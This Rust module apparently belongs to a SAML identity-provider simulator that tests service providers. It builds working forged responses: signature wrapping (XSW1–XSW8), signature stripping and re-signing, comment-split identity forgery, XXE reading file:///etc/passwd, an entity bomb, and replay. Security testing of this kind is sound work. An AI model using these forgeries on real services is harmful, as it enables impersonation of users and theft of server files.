//! Attack transforms for the SAML rows of the security catalogue
//! (shared/reference/catalogue.md, SAML-*): what a hostile party makes of a response the IdP
//! signed honestly.
//!
//! An attack works in up to two pure phases, both functions of (input, keys, context):
//! - [`prepare`] changes what the IdP signs (the prefix and substring variants of SAML-DST-2,
//!   SAML-RCP-2 and SAML-AUD-2, the attacker's own identity for SAML-CMT-1) and settles which
//!   elements are signed, since each wrapping variant targets one signature.
//! - [`apply`] rewrites the signed `samlp:Response` tree (stripping, corrupting or re-signing
//!   signatures, wrapping, splitting text with a comment), or replaces it by a serialised document
//!   (a DTD, a replayed response): see [`Output`].
//!
//! [`forge`] runs both around [`build_response`] and returns the document to post. Wrong or
//! stale condition and confirmation fields (SAML-AUD-1, DST-1, RCP-1, EXP-*, ISS-1, IRT-1) are
//! not attacks: the IdP's overrides set them before signing. docs/attacks.md maps every row.

use super::dsig::{sign_enveloped, DigestAlgorithm, SignatureAlgorithm, SignatureParams};
use super::response::{build_response, ResponseSpec, SignOptions, SignaturePlacement};
use super::{b64_decode, b64_encode, SamlError};
use crate::keys::{KeyKind, SigningKey};
use crate::xml::{Element, Node};
use serde::{Deserialize, Serialize};

mod tree;

pub use tree::{assertion_mut, evil_clone, evilise, strip_signature};
use tree::{child, child_mut, insert, take, walk_mut};

/// Whom forged content claims to be when the caller names nobody.
pub const DEFAULT_VICTIM: &str = "victim@corp.example";
/// What the attacker's own address adds to the victim's in SAML-CMT-1: the IdP signs
/// `victim@corp.example.evil.example`, the attacker splits it after the victim's part.
pub const COMMENT_SPLIT_SUFFIX: &str = ".evil.example";
/// The external entity of [`SamlAttack::Xxe`] when the caller names none.
pub const DEFAULT_XXE_URL: &str = "file:///etc/passwd";
/// The ID the wrapping attacks give the evil assertion.
pub const EVIL_ASSERTION_ID: &str = "_idpsim_evil_assertion";
/// The ID XSW1 and XSW2 give the evil response.
pub const EVIL_RESPONSE_ID: &str = "_idpsim_evil_response";
/// The ID of the unsigned second assertion of SAML-TWO-1.
pub const SECOND_ASSERTION_ID: &str = "_idpsim_second_assertion";
/// How XSW3–XSW8 and SAML-TWO-1 find the response signature they cannot keep valid.
const ASSERTION: &str = "Assertion";

/// One attack per SAML row of the catalogue (several for XSW and TWO). Serialised in kebab
/// case: `"signature-exclusion"`, `"xsw3"`, `"comment-split"`, ...
///
/// "Evil" content is the signed assertion's copy with the NameID and every identity-looking
/// attribute value (one containing `@`) replaced by the context's victim.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum SamlAttack {
    /// SAML-SIG-1: every signature removed (the response and the assertion).
    Unsigned,
    /// SAML-SIG-2: the signature removed from the assertion, or from the response when only the
    /// response is signed. A response signature over a stripped assertion stays (now broken).
    SignatureExclusion,
    /// SAML-SIG-3: every signature replaced by one from the attacker's key, its certificate in
    /// KeyInfo.
    ForeignKey,
    /// SAML-SIG-4: one bit of every SignatureValue flipped.
    CorruptSignature,
    /// SAML-XSW-1: response clone inside the Signature. The root becomes an evil response (new
    /// ID, evil assertion) whose Signature carries, in a `ds:Object`, the signed original
    /// response its Reference still names. Needs the response signed.
    Xsw1,
    /// SAML-XSW-2: response clone before the Signature. As XSW1, with the signed original as a
    /// sibling right before the root's Signature (detached). Needs the response signed.
    Xsw2,
    /// SAML-XSW-3: evil assertion before the signed one (new ID, unsigned). Needs the assertion
    /// signed; a response signature is removed.
    Xsw3,
    /// SAML-XSW-4: evil assertion around the signed one: the signed original becomes the last
    /// child of an evil assertion standing in its place.
    Xsw4,
    /// SAML-XSW-5: evil assertion in place, after the signed content moves out: the assertion
    /// keeps its Signature but gets a new ID and evil content; an unsigned copy of the original
    /// (the ID the Reference names) is appended at the end of the response.
    Xsw5,
    /// SAML-XSW-6: as XSW5, with the unsigned original copy inside the evil assertion's
    /// Signature instead.
    Xsw6,
    /// SAML-XSW-7: same-ID clone in Extensions: a `samlp:Extensions` (where the schema puts it,
    /// after the Issuer) holds an evil unsigned copy under the original ID; the signed original
    /// stays in place.
    Xsw7,
    /// SAML-XSW-8: same-ID clone in a ds:Object: the assertion in place gets evil content under
    /// its own ID and keeps its Signature, which now carries in a `ds:Object` an unsigned copy
    /// of the original.
    Xsw8,
    /// SAML-TWO-1: the signed assertion first, then an unsigned evil one.
    TwoAssertionsSignedFirst,
    /// SAML-TWO-1 reversed: an unsigned evil assertion first, then the signed one.
    TwoAssertionsSignedSecond,
    /// SAML-CMT-1: the IdP signs `<victim>.evil.example` as the NameID and every identity
    /// value; the attacker splits each after `<victim>` with an empty comment, which c14n drops.
    CommentSplit,
    /// SAML-DST-2: the IdP signs a Destination of `<acs>-other`.
    DestinationPrefix,
    /// SAML-RCP-2: the IdP signs a Recipient of `https://other.example/acs?next=<acs>`.
    RecipientSubstring,
    /// SAML-AUD-2: the IdP signs an Issuer of `<issuer>-other` (response and assertion).
    IssuerPrefix,
    /// SAML-AUD-2: the IdP signs every Audience as `<audience>-other`.
    AudiencePrefix,
    /// SAML-DTD-1: a DOCTYPE declaring an external entity, referenced as the NameID.
    Xxe,
    /// SAML-DTD-2: a DOCTYPE with the billion-laughs entity chain, the last one as the NameID.
    EntityBomb,
    /// SAML-RPL-1: the previous response of the tenant, posted again unchanged.
    Replay,
}

const ANY: &[SignaturePlacement] = &[
    SignaturePlacement::None,
    SignaturePlacement::Assertion,
    SignaturePlacement::Response,
    SignaturePlacement::Both,
];
const SIGNED: &[SignaturePlacement] = &[
    SignaturePlacement::Assertion,
    SignaturePlacement::Response,
    SignaturePlacement::Both,
];
const RESPONSE_SIGNED: &[SignaturePlacement] =
    &[SignaturePlacement::Response, SignaturePlacement::Both];
const ASSERTION_SIGNED: &[SignaturePlacement] =
    &[SignaturePlacement::Assertion, SignaturePlacement::Both];

impl SamlAttack {
    pub const ALL: [SamlAttack; 22] = [
        Self::Unsigned,
        Self::SignatureExclusion,
        Self::ForeignKey,
        Self::CorruptSignature,
        Self::Xsw1,
        Self::Xsw2,
        Self::Xsw3,
        Self::Xsw4,
        Self::Xsw5,
        Self::Xsw6,
        Self::Xsw7,
        Self::Xsw8,
        Self::TwoAssertionsSignedFirst,
        Self::TwoAssertionsSignedSecond,
        Self::CommentSplit,
        Self::DestinationPrefix,
        Self::RecipientSubstring,
        Self::IssuerPrefix,
        Self::AudiencePrefix,
        Self::Xxe,
        Self::EntityBomb,
        Self::Replay,
    ];

    /// The serialised name (`"xsw3"`).
    pub fn name(self) -> &'static str {
        match self {
            Self::Unsigned => "unsigned",
            Self::SignatureExclusion => "signature-exclusion",
            Self::ForeignKey => "foreign-key",
            Self::CorruptSignature => "corrupt-signature",
            Self::Xsw1 => "xsw1",
            Self::Xsw2 => "xsw2",
            Self::Xsw3 => "xsw3",
            Self::Xsw4 => "xsw4",
            Self::Xsw5 => "xsw5",
            Self::Xsw6 => "xsw6",
            Self::Xsw7 => "xsw7",
            Self::Xsw8 => "xsw8",
            Self::TwoAssertionsSignedFirst => "two-assertions-signed-first",
            Self::TwoAssertionsSignedSecond => "two-assertions-signed-second",
            Self::CommentSplit => "comment-split",
            Self::DestinationPrefix => "destination-prefix",
            Self::RecipientSubstring => "recipient-substring",
            Self::IssuerPrefix => "issuer-prefix",
            Self::AudiencePrefix => "audience-prefix",
            Self::Xxe => "xxe",
            Self::EntityBomb => "entity-bomb",
            Self::Replay => "replay",
        }
    }

    /// The catalogue row this attack belongs to.
    pub fn catalogue_id(self) -> &'static str {
        match self {
            Self::Unsigned => "SAML-SIG-1",
            Self::SignatureExclusion => "SAML-SIG-2",
            Self::ForeignKey => "SAML-SIG-3",
            Self::CorruptSignature => "SAML-SIG-4",
            Self::Xsw1 => "SAML-XSW-1",
            Self::Xsw2 => "SAML-XSW-2",
            Self::Xsw3 => "SAML-XSW-3",
            Self::Xsw4 => "SAML-XSW-4",
            Self::Xsw5 => "SAML-XSW-5",
            Self::Xsw6 => "SAML-XSW-6",
            Self::Xsw7 => "SAML-XSW-7",
            Self::Xsw8 => "SAML-XSW-8",
            Self::TwoAssertionsSignedFirst | Self::TwoAssertionsSignedSecond => "SAML-TWO-1",
            Self::CommentSplit => "SAML-CMT-1",
            Self::DestinationPrefix => "SAML-DST-2",
            Self::RecipientSubstring => "SAML-RCP-2",
            Self::IssuerPrefix | Self::AudiencePrefix => "SAML-AUD-2",
            Self::Xxe => "SAML-DTD-1",
            Self::EntityBomb => "SAML-DTD-2",
            Self::Replay => "SAML-RPL-1",
        }
    }

    /// The signature placements the attack works with; the first is its choice when the given
    /// one does not fit (see [`SamlAttack::settle_placement`]).
    pub fn placements(self) -> &'static [SignaturePlacement] {
        match self {
            Self::Unsigned | Self::Xxe | Self::EntityBomb | Self::Replay => ANY,
            Self::Xsw1 | Self::Xsw2 => RESPONSE_SIGNED,
            Self::Xsw3
            | Self::Xsw4
            | Self::Xsw5
            | Self::Xsw6
            | Self::Xsw7
            | Self::Xsw8
            | Self::TwoAssertionsSignedFirst
            | Self::TwoAssertionsSignedSecond => ASSERTION_SIGNED,
            _ => SIGNED,
        }
    }

    /// `placement` when the attack works with it, else the attack's own choice.
    pub fn settle_placement(self, placement: SignaturePlacement) -> SignaturePlacement {
        let ok = self.placements();
        if ok.contains(&placement) {
            placement
        } else {
            ok[0]
        }
    }

    /// Whether the forged content claims to be the context's victim.
    pub fn uses_victim(self) -> bool {
        matches!(
            self,
            Self::Xsw1
                | Self::Xsw2
                | Self::Xsw3
                | Self::Xsw4
                | Self::Xsw5
                | Self::Xsw6
                | Self::Xsw7
                | Self::Xsw8
                | Self::TwoAssertionsSignedFirst
                | Self::TwoAssertionsSignedSecond
                | Self::CommentSplit
        )
    }

    /// Whether the attack works on an assertion (all but a replay).
    pub fn needs_assertion(self) -> bool {
        self != Self::Replay
    }
}

impl std::fmt::Display for SamlAttack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// What an attack needs besides the response.
#[derive(Clone, Copy, Debug)]
pub struct AttackContext<'a> {
    /// The identity evil content claims ([`SamlAttack::uses_victim`]).
    pub victim: &'a str,
    /// The attacker's key, for [`SamlAttack::ForeignKey`].
    pub foreign_key: Option<&'a SigningKey>,
    /// The external entity of [`SamlAttack::Xxe`].
    pub xxe_url: &'a str,
    /// The document the IdP posted last, for [`SamlAttack::Replay`].
    pub previous: Option<&'a str>,
}

impl Default for AttackContext<'_> {
    fn default() -> Self {
        Self {
            victim: DEFAULT_VICTIM,
            foreign_key: None,
            xxe_url: DEFAULT_XXE_URL,
            previous: None,
        }
    }
}

/// Why an attack could not be carried out on this response.
#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    #[error("{attack} needs an assertion, and the response has none")]
    NoAssertion { attack: SamlAttack },
    #[error("{attack} needs the {element} signed, and it is not")]
    NotSigned {
        attack: SamlAttack,
        element: &'static str,
    },
    #[error("{attack} needs the attacker's key, and the context has none")]
    NoForeignKey { attack: SamlAttack },
    #[error("replay needs an earlier response, and there is none")]
    NothingToReplay,
    #[error("{attack}: no NameID or attribute value reads {value:?}")]
    NoMatchingValue { attack: SamlAttack, value: String },
    #[error("{attack}: the response has no {field}")]
    MissingField {
        attack: SamlAttack,
        field: &'static str,
    },
    #[error("{attack}: {source}")]
    Saml {
        attack: SamlAttack,
        #[source]
        source: SamlError,
    },
}

/// The result of [`apply`]: the tree, changed in place, or a document to send as is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Output {
    /// Serialise the (changed) tree.
    Tree,
    /// Send this text instead: a DTD cannot live in the tree, and a replay is another document.
    Text(String),
}

impl Output {
    /// The document to send.
    pub fn document(self, tree: &Element) -> String {
        match self {
            Output::Tree => tree.to_document(),
            Output::Text(text) => text,
        }
    }
}

/// The attacker's identity that [`SamlAttack::CommentSplit`] has the IdP sign.
pub fn comment_split_identity(victim: &str) -> String {
    format!("{victim}{COMMENT_SPLIT_SUFFIX}")
}

/// Change what the IdP signs, and settle which elements it signs, for `attack`.
pub fn prepare(
    attack: SamlAttack,
    spec: &mut ResponseSpec,
    opts: &mut SignOptions,
    ctx: &AttackContext<'_>,
) -> Result<(), AttackError> {
    opts.placement = attack.settle_placement(opts.placement);
    let missing = |field| AttackError::MissingField { attack, field };
    match attack {
        SamlAttack::DestinationPrefix => {
            let d = spec.destination.as_mut().ok_or(missing("Destination"))?;
            d.push_str("-other");
        }
        SamlAttack::IssuerPrefix => spec.issuer.value.push_str("-other"),
        SamlAttack::RecipientSubstring => {
            let r = spec
                .assertion
                .as_mut()
                .and_then(|a| a.subject_confirmation.as_mut())
                .and_then(|sc| sc.recipient.as_mut())
                .ok_or(missing("Recipient"))?;
            *r = format!("https://other.example/acs?next={r}");
        }
        SamlAttack::AudiencePrefix => {
            let auds = spec
                .assertion
                .as_mut()
                .and_then(|a| a.conditions.as_mut())
                .map(|c| &mut c.audiences)
                .filter(|a| !a.is_empty())
                .ok_or(missing("Audience"))?;
            for a in auds.iter_mut() {
                a.push_str("-other");
            }
        }
        SamlAttack::CommentSplit => {
            let a = spec
                .assertion
                .as_mut()
                .ok_or(AttackError::NoAssertion { attack })?;
            let identity = comment_split_identity(ctx.victim);
            a.name_id.value = identity.clone();
            for v in a.attributes.iter_mut().flat_map(|at| at.values.iter_mut()) {
                if v.contains('@') {
                    *v = identity.clone();
                }
            }
        }
        _ => {}
    }
    Ok(())
}

/// Rewrite the signed `response` for `attack`.
pub fn apply(
    attack: SamlAttack,
    response: &mut Element,
    ctx: &AttackContext<'_>,
) -> Result<Output, AttackError> {
    use SamlAttack::*;
    match attack {
        Unsigned => {
            strip_signature(response);
            if let Some(a) = assertion_mut(response) {
                strip_signature(a);
            }
        }
        SignatureExclusion => {
            let a = assertion_mut(response).ok_or(AttackError::NoAssertion { attack })?;
            if !strip_signature(a) && !strip_signature(response) {
                return Err(AttackError::NotSigned {
                    attack,
                    element: "response or assertion",
                });
            }
        }
        ForeignKey => {
            let key = ctx
                .foreign_key
                .ok_or(AttackError::NoForeignKey { attack })?;
            resign(attack, response, key)?;
        }
        CorruptSignature => {
            if corrupt_signature_values(response) == 0 {
                return Err(AttackError::NotSigned {
                    attack,
                    element: "response or assertion",
                });
            }
        }
        Xsw1 | Xsw2 => wrap_response(attack, response, ctx.victim)?,
        Xsw3 | TwoAssertionsSignedSecond => {
            let i = signed_assertion(attack, response)?;
            let id = evil_id(attack);
            let evil = evil_clone(child(response, i), id, ctx.victim);
            insert(response, i, evil);
        }
        TwoAssertionsSignedFirst => {
            let i = signed_assertion(attack, response)?;
            let evil = evil_clone(child(response, i), SECOND_ASSERTION_ID, ctx.victim);
            insert(response, i + 1, evil);
        }
        Xsw4 => {
            let i = signed_assertion(attack, response)?;
            let original = take(response, i);
            let mut evil = evil_clone(&original, EVIL_ASSERTION_ID, ctx.victim);
            evil.children.push(Node::Element(original));
            insert(response, i, evil);
        }
        Xsw5 | Xsw6 => {
            let i = signed_assertion(attack, response)?;
            let mut copy = child(response, i).clone();
            strip_signature(&mut copy);
            let evil = child_mut(response, i);
            evil.set_attr("ID", EVIL_ASSERTION_ID);
            evilise(evil, ctx.victim);
            if attack == Xsw5 {
                response.children.push(Node::Element(copy));
            } else {
                signature_mut(evil, attack, ASSERTION)?
                    .children
                    .push(Node::Element(copy));
            }
        }
        Xsw7 => {
            let i = signed_assertion(attack, response)?;
            let original = child(response, i);
            let id = original.id().unwrap_or_default().to_string();
            let evil = evil_clone(original, &id, ctx.victim);
            let extensions = Element::new(response.prefix.clone(), "Extensions").child(evil);
            let at = response.child_index("Issuer").map(|i| i + 1).unwrap_or(0);
            insert(response, at, extensions);
        }
        Xsw8 => {
            let i = signed_assertion(attack, response)?;
            let mut copy = child(response, i).clone();
            strip_signature(&mut copy);
            let evil = child_mut(response, i);
            evilise(evil, ctx.victim);
            let sig = signature_mut(evil, attack, ASSERTION)?;
            let object = Element::new(sig.prefix.clone(), "Object").child(copy);
            sig.children.push(Node::Element(object));
        }
        CommentSplit => {
            let full = comment_split_identity(ctx.victim);
            if split_with_comment(response, ctx.victim, &full) == 0 {
                return Err(AttackError::NoMatchingValue {
                    attack,
                    value: full,
                });
            }
        }
        DestinationPrefix | RecipientSubstring | IssuerPrefix | AudiencePrefix => {}
        Xxe => {
            let url = ctx.xxe_url.replace('"', "%22");
            let dtd = format!(r#"<!ENTITY xxe SYSTEM "{url}">"#);
            return with_dtd(attack, response, &dtd, "&xxe;").map(Output::Text);
        }
        EntityBomb => {
            let mut dtd = String::from(r#"<!ENTITY lol0 "lol">"#);
            for i in 1..10 {
                let refs = format!("&lol{};", i - 1).repeat(10);
                dtd.push_str(&format!(r#"<!ENTITY lol{i} "{refs}">"#));
            }
            return with_dtd(attack, response, &dtd, "&lol9;").map(Output::Text);
        }
        Replay => {
            return ctx
                .previous
                .map(|p| Output::Text(p.to_string()))
                .ok_or(AttackError::NothingToReplay)
        }
    }
    Ok(Output::Tree)
}

/// [`prepare`], [`build_response`] and [`apply`]: the document to post.
pub fn forge(
    attack: SamlAttack,
    mut spec: ResponseSpec,
    mut opts: SignOptions,
    key: &SigningKey,
    ctx: &AttackContext<'_>,
) -> Result<String, AttackError> {
    prepare(attack, &mut spec, &mut opts, ctx)?;
    let mut tree =
        build_response(&spec, &opts, key).map_err(|source| AttackError::Saml { attack, source })?;
    Ok(apply(attack, &mut tree, ctx)?.document(&tree))
}

// ---- tree surgery: the generic moves are in `tree`, public so tests elsewhere build the
// same shapes; what follows knows the attacks ----

fn evil_id(attack: SamlAttack) -> &'static str {
    if attack == SamlAttack::TwoAssertionsSignedSecond {
        SECOND_ASSERTION_ID
    } else {
        EVIL_ASSERTION_ID
    }
}

fn signature_mut<'a>(
    el: &'a mut Element,
    attack: SamlAttack,
    element: &'static str,
) -> Result<&'a mut Element, AttackError> {
    el.child_named_mut("Signature")
        .ok_or(AttackError::NotSigned { attack, element })
}

/// The index of the signed assertion, after removing a response signature: an attacker who
/// moves things inside the response cannot keep that one valid.
fn signed_assertion(attack: SamlAttack, response: &mut Element) -> Result<usize, AttackError> {
    let i = response
        .child_index(ASSERTION)
        .ok_or(AttackError::NoAssertion { attack })?;
    if child(response, i).child_named("Signature").is_none() {
        return Err(AttackError::NotSigned {
            attack,
            element: "assertion",
        });
    }
    strip_signature(response);
    response
        .child_index(ASSERTION)
        .ok_or(AttackError::NoAssertion { attack })
}

/// XSW1 and XSW2.
fn wrap_response(
    attack: SamlAttack,
    response: &mut Element,
    victim: &str,
) -> Result<(), AttackError> {
    let at = response
        .child_index("Signature")
        .ok_or(AttackError::NotSigned {
            attack,
            element: "response",
        })?;
    let i = response
        .child_index(ASSERTION)
        .ok_or(AttackError::NoAssertion { attack })?;
    let mut original = response.clone();
    strip_signature(&mut original);
    response.set_attr("ID", EVIL_RESPONSE_ID);
    let evil = evil_clone(child(response, i), EVIL_ASSERTION_ID, victim);
    response.children[i] = Node::Element(evil);
    if attack == SamlAttack::Xsw1 {
        let sig = child_mut(response, at);
        let object = Element::new(sig.prefix.clone(), "Object").child(original);
        sig.children.push(Node::Element(object));
    } else {
        insert(response, at, original);
    }
    Ok(())
}

/// Flip one bit in the middle of every SignatureValue; returns how many.
fn corrupt_signature_values(el: &mut Element) -> usize {
    let mut n = 0;
    walk_mut(el, &mut |e| {
        if e.name != "SignatureValue" {
            return;
        }
        let text = e.text_content();
        let corrupted = match b64_decode("SignatureValue", &text) {
            Ok(mut bytes) if !bytes.is_empty() => {
                let mid = bytes.len() / 2;
                bytes[mid] ^= 0x01;
                b64_encode(bytes)
            }
            _ => format!("A{text}"),
        };
        e.set_text(corrupted);
        n += 1;
    });
    n
}

/// How an existing signature was made, so a forged one looks the same.
struct Recorded {
    algorithm: SignatureAlgorithm,
    digest: DigestAlgorithm,
    prefixes: Option<Vec<String>>,
}

fn recorded(sig: &Element, key: &SigningKey) -> Recorded {
    let find = |name: &str| sig.descendants().into_iter().find(|e| e.name == name);
    let algorithm = find("SignatureMethod")
        .and_then(|e| e.attr_value("Algorithm"))
        .and_then(SignatureAlgorithm::from_uri)
        .filter(|a| a.key_kind() == key.kind())
        .unwrap_or(match key.kind() {
            KeyKind::Rsa => SignatureAlgorithm::RsaSha256,
            KeyKind::Ec => SignatureAlgorithm::EcdsaSha256,
        });
    let digest = find("DigestMethod")
        .and_then(|e| e.attr_value("Algorithm"))
        .and_then(DigestAlgorithm::from_uri)
        .unwrap_or(algorithm.default_digest());
    let prefixes = find("InclusiveNamespaces")
        .and_then(|e| e.attr_value("PrefixList"))
        .map(|l| l.split_whitespace().map(str::to_string).collect());
    Recorded {
        algorithm,
        digest,
        prefixes,
    }
}

fn sign_like(
    attack: SamlAttack,
    el: &mut Element,
    inherited: &[crate::xml::NsDecl],
    how: &Recorded,
    key: &SigningKey,
) -> Result<(), AttackError> {
    let prefixes: Option<Vec<&str>> = how
        .prefixes
        .as_ref()
        .map(|p| p.iter().map(String::as_str).collect());
    let params = SignatureParams {
        algorithm: how.algorithm,
        digest: how.digest,
        inclusive_prefixes: prefixes.as_deref(),
        key_info: true,
    };
    sign_enveloped(el, inherited, &params, key)
        .map_err(|source| AttackError::Saml { attack, source })
}

/// SAML-SIG-3: re-sign whatever was signed, innermost first, with `key`.
fn resign(attack: SamlAttack, response: &mut Element, key: &SigningKey) -> Result<(), AttackError> {
    let on_response = response.child_named("Signature").map(|s| recorded(s, key));
    let on_assertion = response
        .child_named(ASSERTION)
        .and_then(|a| a.child_named("Signature"))
        .map(|s| recorded(s, key));
    if on_response.is_none() && on_assertion.is_none() {
        return Err(AttackError::NotSigned {
            attack,
            element: "response or assertion",
        });
    }
    strip_signature(response);
    if let Some(how) = on_assertion {
        let inherited = response.namespaces.clone();
        let a = assertion_mut(response).ok_or(AttackError::NoAssertion { attack })?;
        strip_signature(a);
        sign_like(attack, a, &inherited, &how, key)?;
    }
    if let Some(how) = on_response {
        sign_like(attack, response, &[], &how, key)?;
    }
    Ok(())
}

/// SAML-CMT-1: `full` becomes `victim`, an empty comment, and the rest; returns how many.
fn split_with_comment(el: &mut Element, victim: &str, full: &str) -> usize {
    let rest = &full[victim.len()..];
    let mut n = 0;
    walk_mut(el, &mut |e| {
        let is_value = e.name == "NameID" || e.name == "AttributeValue";
        let only_text = e.children.iter().all(|c| matches!(c, Node::Text(_)));
        if is_value && only_text && e.text_content() == full {
            e.children = vec![
                Node::Text(victim.to_string()),
                Node::Comment(String::new()),
                Node::Text(rest.to_string()),
            ];
            n += 1;
        }
    });
    n
}

/// The document with `dtd` in a DOCTYPE and `reference` as the NameID's text.
fn with_dtd(
    attack: SamlAttack,
    response: &mut Element,
    dtd: &str,
    reference: &str,
) -> Result<String, AttackError> {
    const MARKER: &str = "IDPSIM-ENTITY-REFERENCE";
    let a = assertion_mut(response).ok_or(AttackError::NoAssertion { attack })?;
    let path = a
        .path_to(&|e| e.name == "NameID")
        .ok_or(AttackError::MissingField {
            attack,
            field: "NameID",
        })?;
    if let Some(n) = a.at_path_mut(&path) {
        n.set_text(MARKER);
    }
    let body = response.to_xml().replacen(MARKER, reference, 1);
    Ok(format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE {} [{dtd}]>{body}"#,
        response.qname()
    ))
}

#[cfg(test)]
mod tests;
